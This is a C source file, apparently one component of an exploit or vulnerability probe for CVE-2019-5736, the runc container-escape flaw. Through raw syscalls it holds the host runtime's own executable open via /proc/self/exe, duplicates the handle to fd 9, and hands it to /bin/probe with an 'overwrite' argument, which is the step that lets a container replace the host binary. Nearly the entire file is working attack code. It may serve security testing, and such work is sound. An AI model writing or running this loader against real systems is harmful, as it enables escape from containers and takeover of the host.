/* A hostile loader: what a dynamic program of the host would run inside a container's root.
 *
 * It holds the program that was executed open and becomes /bin/probe, which opens it for
 * writing when nobody executes it any more (CVE-2019-5736).
 */
static long call3(long number, long a, long b, long c)
{
	long result;
#if defined(__x86_64__)
	__asm__ volatile("syscall" : "=a"(result) : "0"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
#elif defined(__aarch64__)
	register long x8 __asm__("x8") = number;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
	result = x0;
#endif
	return result;
}

#if defined(__x86_64__)
enum { OPEN_AT = 257, DUP3 = 292, EXECVE = 59, EXIT = 60 };
#elif defined(__aarch64__)
enum { OPEN_AT = 56, DUP3 = 24, EXECVE = 221, EXIT = 93 };
#endif

void _start(void)
{
	char exe[] = "/proc/self/exe", probe[] = "/bin/probe", verb[] = "overwrite", held[] = "/proc/self/fd/9";
	char *arguments[] = { probe, verb, held, 0 };
	char *environment[] = { 0 };
	long fd = call3(OPEN_AT, -100, (long)exe, 0);
	call3(DUP3, fd, 9, 0);
	call3(EXECVE, (long)probe, (long)arguments, (long)environment);
	call3(EXIT, 126, 0, 0);
	for (;;)
		;
}
